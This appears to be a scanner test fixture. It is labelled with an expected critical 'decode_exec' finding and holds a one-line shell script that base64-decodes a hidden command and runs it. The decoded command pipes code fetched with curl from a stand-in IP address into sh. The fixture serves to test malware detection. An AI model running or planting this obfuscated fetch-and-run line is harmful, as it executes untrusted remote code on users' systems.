# expect: shell.decode_exec critical
# path: scripts/w.sh
#!/bin/sh
echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d > /tmp/x.sh; sh /tmp/x.sh
